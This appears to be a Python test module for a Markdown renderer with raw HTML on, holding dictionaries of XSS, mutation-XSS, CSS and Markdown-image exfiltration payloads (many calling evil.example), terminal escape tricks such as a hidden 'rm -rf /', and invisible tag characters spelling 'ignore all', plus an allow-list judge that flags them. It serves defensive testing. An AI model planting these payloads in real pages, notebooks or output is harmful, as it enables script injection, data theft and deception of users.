"""Texts that try to run, to fetch or to hide; and the judge of what came out of the renderer."""

from __future__ import annotations

import re
from html import escape
from html.parser import HTMLParser
from urllib.parse import urlsplit

from markdown_it import MarkdownIt

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "script-broken": "<script<script>>alert(1)</script</script>>",
    "script-slash": "<script/x>alert(1)</script>",
    "script-unclosed": "<script src=//evil.example/x.js",
    "script-null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-slashes": "<img/src=x/onerror=alert(1)>",
    "img-newline": "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "img-srcset": '<img srcset="http://evil.example/a.png 1x">',
    "img-lazy": '<img loading=lazy src="http://evil.example/a.png">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg-style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mathml-href": '<math href="javascript:alert(1)">x</math>',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "iframe": "<iframe src=javascript:alert(1)></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src=http://evil.example/x.swf>",
    "base": "<base href=http://evil.example/>",
    "meta": '<meta http-equiv=refresh content="0;url=http://evil.example">',
    "link": "<link rel=stylesheet href=http://evil.example/x.css>",
    "style": "<style>@import 'http://evil.example/x.css';</style>",
    "style-attr": '<p style="background:url(http://evil.example/x.png)">x</p>',
    "style-fixed": '<div style="position:fixed;inset:0">cover</div>',
    "form": "<form action=http://evil.example><input name=q><button>go</button></form>",
    "button-command": '<button data-commandlinker-command="terminal:create-new">x</button>',
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "video": "<video><source onerror=alert(1) src=x></video>",
    "video-poster": "<video poster=http://evil.example/x.png>",
    "audio": "<audio src=http://evil.example/x.mp3 autoplay onplay=alert(1)>",
    "body": "<body onload=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "anchor": '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
    "anchor-ping": '<a href="http://ok.example" ping="http://evil.example">x</a>',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "instruction": "<?xml-stylesheet href='http://evil.example/x.css'?>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "md-image": "![a](http://evil.example/?q=secret)",
    "md-image-https": '![a](https://evil.example/x.png "title")',
    "md-image-ref": "![a][r]\n\n[r]: http://evil.example/x.png",
    "md-image-collapsed": "![r]\n\n[r]: http://evil.example/x.png",
    "md-image-escaped": "\\![a](http://evil.example/x.png)",
    "md-image-entity": "&#33;[a](http://evil.example/x.png)",
    "md-image-angle": "![a](<http://evil.example/x y.png>)",
    "md-image-data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-image-in-link": "[![a](http://evil.example/x.png)](http://evil.example)",
    "md-image-alt-html": "![<img src=x onerror=alert(1)>](http://evil.example/x.png)",
    "md-image-table": "| a |\n|---|\n| ![a](http://evil.example/x.png) |",
    "md-image-relative": "![a](//evil.example/x.png)",
    "md-image-nested": "![![a](http://evil.example/1)](http://evil.example/2)",
    "md-link-js": "[x](javascript:alert(1))",
    "md-link-js-case": "[x](JaVaScRiPt:alert(1))",
    "md-link-js-entity": "[x](&#106;avascript:alert(1))",
    "md-link-js-tab": "[x](java&Tab;script:alert(1))",
    "md-link-js-newline": "[x](<java\nscript:alert(1)>)",
    "md-link-js-ref": "[x][r]\n\n[r]: javascript:alert(1)",
    "md-link-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-data": "[x](data:text/html,<script>alert(1)</script>)",
    "md-link-file": "[x](file:///etc/passwd)",
    "md-link-command": "[x](command:terminal.new)",
    "md-link-vscode": "[x](vscode://evil/x)",
    "md-link-blob": "[x](blob:http://evil.example/1)",
    "md-link-quote": '[x](http://ok.example/"onmouseover="alert(1))',
    "md-link-title": '[x](http://ok.example "\\" onmouseover=alert(1) \\"")',
    "md-autolink-js": "<javascript:alert(1)>",
    "md-autolink-data": "<data:text/html,%3Cscript%3E>",
    "md-code-span": "`<img src=x onerror=alert(1)>`",
    "md-code-span-long": "``` `` <script>alert(1)</script> `` ```",
    "md-code-escape": "\\`<script>alert(1)</script>\\`",
    "md-fence": "```html\n<script>alert(1)</script>\n```",
    "md-fence-open": "```html\n<script>alert(1)</script>",
    "md-fence-info": '```"><script>alert(1)</script>\nx\n```',
    "md-fence-tilde": "~~~\n```\n<script>alert(1)</script>\n~~~",
    "md-fence-indented": "para\n    ```\n<script>alert(1)</script>\n```",
    "md-fence-list": "- a\n\n  ```\n  <script>alert(1)</script>\n  ```",
    "md-fence-quote": "> ```\n> <script>alert(1)</script>\n> ```\n<img src=x onerror=alert(1)>",
    "md-fence-long": "````\n```\n<script>alert(1)</script>\n```\n````",
    "md-fence-dollar": "cost $5\n```html\n$ <script>alert(1)</script>\n```\n",
    "md-indented": "    <script>alert(1)</script>",
    "md-heading": "# <img src=x onerror=alert(1)>",
    "md-list-html": "- <img src=x onerror=alert(1)>\n  <script>alert(1)</script>",
    "md-html-block": "<div>\n\n**x** <script>alert(1)</script>\n\n</div>",
    "md-pre-block": "<pre>\n```\n</pre>\n<script>alert(1)</script>\n```",
    "md-comment-fence": "<!--\n```\n-->\n<script>alert(1)</script>\n```",
    "md-def-html": '[x]: http://ok.example "<script>alert(1)</script>"\n\n[x]',
    "math-swallow-tick": "\\begin{a} ` \\end{a} <script>alert(1)</script> `",
    "math-swallow-span": "`` \\begin{a} ` `` x ` \\end{a} <script>alert(1)</script>`",
    "math-swallow-image": "`` \\begin{a} ` `` x ` \\end{a} ![a](http://evil.example/x)`",
    "math-swallow-fence": (
        "- ```\n  $ x\n  ```\n- ````\n  $ y\n  ```\n  <script>alert(1)</script>\n  ````"
    ),
    "math-brace": "$\\frac{1$ ` $2}$ <script>alert(1)</script> `",
    "math-image": "$x^2 ![a](http://evil.example/x)$",
    "math-html": "$x^2 <img src=x onerror=alert(1)>$",
    "math-href": "$\\href{javascript:alert(1)}{x^2}$",
    "math-require": "$$\\require{html}\\style{background:url(http://evil.example)}{x}$$",
    "math-paren": "\\\\(x `\\\\) <script>alert(1)</script>`",
    "math-marker": "$x^2$ @@0@@ <script>alert(1)</script>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entity-double": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "entity-numeric": "&#60;img src=x onerror=alert(1)&#62;",
    "entity-newline": "x&#10;&#10;&#60;script&#62;alert(1)&#60;/script&#62;",
    "attr-breakout": '"><img src=x onerror=alert(1)>',
    "attr-breakout-single": "' onmouseover='alert(1)",
    "closing": "</code></pre></details></div><script>alert(1)</script>",
    "closing-textarea": "</textarea></title></style><script>alert(1)</script>",
    "summary": "</summary><img src=x onerror=alert(1)>",
    "unicode-full": "＜script＞alert(1)＜/script＞",
    "long-nesting": "> " * 60 + "<script>alert(1)</script>",
    "template-braces": "{{constructor.constructor('alert(1)')()}} {0} {x!r} %s",
    "css-expression": '<p style="width:expression(alert(1))">',
    "css-import-open": "<style>@import url(http://evil.example/x.css)",
    "css-escape": '<p style="background:\\75rl(http://evil.example/x.png)">x</p>',
    "css-image-set": "<p style=\"background:image-set('http://evil.example/x.png' 1x)\">x</p>",
    "css-cursor": '<p style="cursor:url(http://evil.example/x.cur),auto">x</p>',
    "css-list": '<ul style="list-style:url(http://evil.example/x.png)"><li>x</li></ul>',
    "css-entity": '<p style="background:&#117;rl(http://evil.example/x.png)">x</p>',
    "css-var": '<p style="--x:url(http://evil.example/x.png);background:var(--x)">x</p>',
    "css-font": "<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>",
    "mxss-style-title": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "mxss-form-math": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=x onerror=alert(1)>",
    "mxss-table": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mxss-annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
    "mxss-template-select": "<select><template><style><!--</style><a rel='--><img src=x "
    "onerror=alert(1)>'></template></select>",
    "mxss-backtick": "<img alt='``onerror=alert(1)'>",
    "mxss-xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "mxss-plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "mxss-comment-bang": "<!--x--!><img src=x onerror=alert(1)>-->",
    "commandlinker-link": '<a href="#" data-commandlinker-command="docmanager:delete-file" '
    'data-commandlinker-args=\'{"path":"x"}\'>x</a>',
    "commandlinker-div": '<div data-commandlinker-command="console:create">x</div>',
    "suppress": '<p data-lm-suppress-shortcuts="true" data-jp-suppress-context-menu>x</p>',
    "id-clobber": '<a id="jupyter-config-data" name="body">x</a><form id=x><input name=id></form>',
    "class-cover": '<div class="jp-Dialog lm-Widget jp-mod-shown">cover</div>',
    "target-form": '<button formaction="http://evil.example" form=x>x</button>',
    "prefetch": '<link rel="prefetch" href="http://evil.example/x"><link rel=preconnect '
    "href=http://evil.example>",
    "meta-csp": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "image-tag": "<image src=http://evil.example/x.png onerror=alert(1)>",
    "picture": "<picture><source srcset=http://evil.example/x.png><img></picture>",
    "input-image": "<input type=image src=http://evil.example/x.png onfocus=alert(1) autofocus>",
    "frameset": "<frameset onload=alert(1)><frame src=http://evil.example></frameset>",
    "portal": "<portal src=http://evil.example></portal><fencedframe></fencedframe>",
    "popover": "<button popovertarget=x>x</button><p id=x popover onbeforetoggle=alert(1)>y</p>",
    "animation": '<p style="animation:x" onanimationstart=alert(1)>x</p>',
    "md-ref-image-later": "![a][later]\n\ntext\n\n[later]: <http://evil.example/x.png> 'title'",
    "md-ref-shortcut": "[x]: http://evil.example/x.png\n\n![x][]\n![x]",
    "md-ref-js-title": "[x][r]\n\n[r]: <javascript:alert(1)> 'title'",
    "md-ref-data": "[x][r]\n\n[r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "md-ref-nested": "[![a][i]][l]\n\n[i]: http://evil.example/1\n[l]: command:evil",
    "md-link-js-control": "[x](\x01javascript:alert(1))",
    "md-link-js-soft": "[x](java\u00adscript:alert(1))",
    "md-link-js-percent": "[x](%6Aavascript:alert(1))",
    "md-link-host-bidi": "[http://ok.example](http://evil.example/\u202egnp.x)",
    "md-image-srcset": "![a](http://evil.example/x.png =1x1)",
    "md-image-ftp": "![a](ftp://evil.example/x.png)",
    "md-image-attachment": "![a](attachment:x.png) ![b](files/../../x.png)",
    "md-footnote": "x[^1]\n\n[^1]: ![a](http://evil.example/x.png)",
    "md-setext": "![a](http://evil.example/x.png)\n===",
    "md-task": "- [ ] ![a](http://evil.example/x.png)",
    "md-mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B; "
    'click A "javascript:alert(1)"\n```',
    "md-svg-fence": "```svg\n<svg onload=alert(1)></svg>\n```",
    "math-include": "$\\includegraphics{http://evil.example/x.png}$",
    "math-unicode": "$$\\class{jp-Dialog}{\\cssId{x}{\\href{http://evil.example}{y}}}$$",
}

# Half a payload must be harmless too: an answer is drawn while it arrives.
HALVES = {f"{name}-half": text[: len(text) * 2 // 3] for name, text in PAYLOADS.items()}

CONTROL: dict[str, str] = {
    "csi": "a\x1b[31mred\x1b[0m",
    "cursor": "safe\x1b[2K\x1b[1Gevil",
    "osc-title": "\x1b]0;title\x07x",
    "osc-link": "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "osc-clipboard": "\x1b]52;c;ZXZpbA==\x07x",
    "osc-open": "\x1b]0;never closed",
    "dcs": "\x1bP1$r0m\x1b\\x",
    "c1-csi": "a\x9b31mred",
    "c1-osc": "\x9d0;title\x9cx",
    "return": "rm -rf /\recho ok   ",
    "backspace": "evil\b\b\b\bgood",
    "bell": "a\x07b",
    "null": "a\0b",
    "delete": "a\x7fb",
    "form-feed": "a\x0cb\x0bc",
    "bidi-override": "a\u202egnp.exe",
    "bidi-isolate": "a\u2066b\u2069",
    "tags": "ok" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all"),
    "invisible": "a\u2060b\ufeffc\u200bd",
    "line-separator": "a\u2028b\u2029c",
    "osc-link-bell": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "osc-file": "\x1b]1337;File=inline=1:ZXZpbA==\x07x",
    "osc-notify": "\x1b]9;evil\x07\x1b]777;notify;a;b\x07x",
    "csi-report": "\x1b[6n\x1b[c\x1b[>c\x1b[?1049h\x1b[?25lx",
    "csi-scroll": "a\x1b[3J\x1b[H\x1b[1000Ab",
    "csi-conceal": "a\x1b[8mhidden\x1b[28m",
    "csi-cut": "a\x1b[",
    "apc-pm-sos": "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\x",
    "escape-reset": "a\x1bcb\x1b7\x1b8\x1b(0lqqk",
    "c1-all": "".join(map(chr, range(0x80, 0xA0))),
    "c0-all": "".join(map(chr, range(0x20))),
    "bidi-embedding": "a\u202ab\u202bc\u202cd\u202de\u2067f\u2068g\u061ch",
    "fillers": "a\u115fb\u1160c\u3164d\uffa0e",
    "surrogate": "a\ud83db",
    "variation": "a" + chr(0xE0100) * 5,
}

_ALLOWED: dict[str, frozenset[str]] = {
    **{
        tag: frozenset({"style"})
        for tag in (
            *("blockquote", "br", "code", "details", "div", "em", "h1", "h2", "h3", "h4", "h5"),
            *("h6", "hr", "li", "p", "pre", "s", "span", "strong", "summary", "table", "tbody"),
            *("thead", "tr", "ul"),
        )
    },
    "a": frozenset({"href", "target", "rel"}),
    "ol": frozenset({"start"}),
    "td": frozenset({"style", "align"}),
    "th": frozenset({"style", "align"}),
    "img": frozenset({"src", "alt", "style"}),
}
_VOID = {"br", "hr", "img"}
# What the line that says what goes on tells a screen reader; no other value is ours.
_SPOKEN = {("role", "status"), ("aria-live", "polite"), ("aria-hidden", "true")}
_DATA = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+\Z")


class _Judge(HTMLParser):
    """Collects what is not on the allow-list, and writes what it saw for a second parse."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.offences: list[str] = []
        self.out: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ALLOWED:
            self.offences.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")
        shown = "".join(f' {name}="{escape(value or "")}"' for name, value in attrs)
        self.out.append(f"<{tag}{shown}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag not in _VOID:
            self.out.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.out.append(escape(data, quote=False))

    def handle_comment(self, data: str) -> None:
        self.offences.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.offences.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.offences.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.offences.append(f"<?{data}")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        allowed = _ALLOWED.get(tag, frozenset())
        # The judge's own renderer writes these two; ours writes neither.
        rendered = (name == "style" and tag in {"td", "th"}) or (name == "class" and tag == "code")
        rendered = rendered or (name, value) in _SPOKEN
        if name not in allowed and not rendered:
            self.offences.append(f"{tag} {name}={value}")
        elif name == "href" and urlsplit(value).scheme not in {"http", "https", "mailto"}:
            self.offences.append(f"{tag} href={value}")
        elif name == "src" and not _DATA.match(value):
            self.offences.append(f"{tag} src={value}")
        elif name == "style" and re.search(r"url|expression|position|@|\\|/\*", value, re.I):
            self.offences.append(f"{tag} style={value}")


def offences(html: str) -> list[str]:
    """Return what in `html` is not allowed, also when a browser writes and reads it again."""
    first = _Judge()
    first.feed(html)
    first.close()
    second = _Judge()
    second.feed("".join(first.out))
    second.close()
    return first.offences + second.offences


_trusting = MarkdownIt("js-default", {"html": True})
_trusting.validateLink = lambda url: True  # type: ignore[method-assign]


def as_jupyterlab(markdown: str) -> list[str]:
    """Return the offences of Markdown rendered with raw HTML on, with and without mathematics.

    JupyterLab takes formulas out before it parses and puts them back, escaped, afterwards.
    """
    text, formulas = remove_math(markdown)
    html = _trusting.render(text)
    found = dict(enumerate(formulas))
    html = re.sub(r"@@(\d+)@@", lambda m: found.get(int(m[1]), "undefined"), html)
    return offences(html) + offences(_trusting.render(markdown))


_MATH_SPLIT = re.compile(
    r"(\$\$?|\\(?:begin|end)\{[a-z]*\*?\}|\\[{}$]|[{}]|(?:\n\s*)+|@@\d+@@|\\\\[()\[\]])", re.I
)
_LAB_FENCE = re.compile(r"^(?P<fence>`{3,}|(?:~T){3,})[^`\n]*\n([\s\S]*?)^(?P=fence)`*$", re.M)
_LAB_CODE = re.compile(r"(^|[^\\])(`+)([^\n]*?[^`\n])\2(?!`)", re.M)


def remove_math(text: str) -> tuple[str, list[str]]:
    """Do what JupyterLab's ``removeMath`` (rendermime/latex.ts) does to Markdown."""
    coded = "`" in text or "~~~" in text
    if coded:
        text = text.replace("~", "~T")
        for pattern in (_LAB_FENCE, _LAB_CODE):
            text = pattern.sub(lambda found: found[0].replace("$", "~D"), text)

    def restore(part: str) -> str:
        if not coded:
            return part
        return re.sub("~([TD])", lambda m: "~" if m[1] == "T" else "$", part)

    blocks = _MATH_SPLIT.split(text)
    formulas: list[str] = []
    start = last = None
    end = ""
    braces = 0

    def take(first: int, final: int) -> None:
        body = "".join(blocks[first : final + 1])
        blocks[first : final + 1] = [f"@@{len(formulas)}@@"] + [""] * (final - first)
        formulas.append(restore(escape(body, quote=False)))

    for at in range(1, len(blocks), 2):
        block = blocks[at]
        if block.startswith("@"):
            blocks[at] = f"@@{len(formulas)}@@"
            formulas.append(block)
        elif start is not None:
            if block == end:
                if braces:
                    last = at
                else:
                    take(start, at)
                    start = last = None
            elif re.search(r"\n.*\n", block):
                if last is not None:
                    take(start, last)
                start = last = None
                braces = 0
            elif block == "{":
                braces += 1
            elif block == "}" and braces:
                braces -= 1
        elif block in {"$", "$$"}:
            start, end, braces = at, block, 0
        elif block in {"\\\\(", "\\\\["}:
            start, end, braces = at, "\\\\)" if block.endswith("(") else "\\\\]", 0
        elif block[1:6] == "begin":
            start, end, braces = at, "\\end" + block[6:], 0
    if start is not None and last is not None:
        take(start, last)
    return restore("".join(blocks)), formulas
